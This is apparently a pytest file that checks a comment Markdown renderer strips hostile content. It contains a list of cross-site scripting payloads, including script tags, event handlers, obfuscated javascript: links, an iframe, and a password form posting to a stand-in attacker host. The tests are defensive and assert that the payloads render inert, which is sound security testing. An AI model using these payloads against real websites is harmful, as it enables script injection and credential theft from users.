"""Comments' Markdown: what users write renders, and nothing they write can run or track."""

from __future__ import annotations

import re

import pytest
from lxml import html as lxml_html

from paperstand.markdown import render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=password></form>',
    "![pixel](https://tracker.example/p.gif)",
    '[x](https://example.org "a" onmouseover="alert(1)")',
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    "<!-- <script>alert(1)</script> -->",
    "`<script>`\n\n```html\n<script>alert(1)</script>\n```",
    "<<script>script>alert(1)<</script>/script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


def elements(fragment: str) -> list:
    root = lxml_html.fragment_fromstring(fragment or "<p></p>", create_parent="div")
    return list(root.iter())


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_is_inert(text: str) -> None:
    out = str(render_markdown(text))
    for element in elements(out):
        assert element.tag not in {"script", "img", "iframe", "svg", "style", "form", "input"}
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), out
            assert name in {"href", "title", "rel", "start", "style"}, out
            if name == "href":
                assert re.match(r"(https?|mailto):", value), out
            if name == "style":
                assert value.startswith("text-align"), out


def test_markdown_renders_what_comments_use() -> None:
    out = str(
        render_markdown(
            "**bold** and *it* and `x < y`\n\n"
            "> quoted\n\n"
            "- one\n- two\n\n"
            "See [the paper](https://arxiv.org/abs/2407.01234) and <https://example.org>.\n\n"
            "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~old~~"
        )
    )
    assert "<strong>bold</strong>" in out and "<em>it</em>" in out
    assert "<code>x &lt; y</code>" in out
    assert "<blockquote>" in out and "<li>one</li>" in out
    assert (
        '<a href="https://arxiv.org/abs/2407.01234" rel="nofollow noopener noreferrer ugc">' in out
    )
    assert 'href="https://example.org"' in out
    assert '<td style="text-align:left">1</td>' in out
    assert "<s>old</s>" in out


def test_raw_html_is_shown_as_text() -> None:
    out = str(render_markdown("<script>alert(1)</script>"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_nul_and_huge_input() -> None:
    assert "\x00" not in render_markdown("a\x00b")
    out = render_markdown("[" * 5000 + "x" + "]" * 5000)
    assert "x" in out
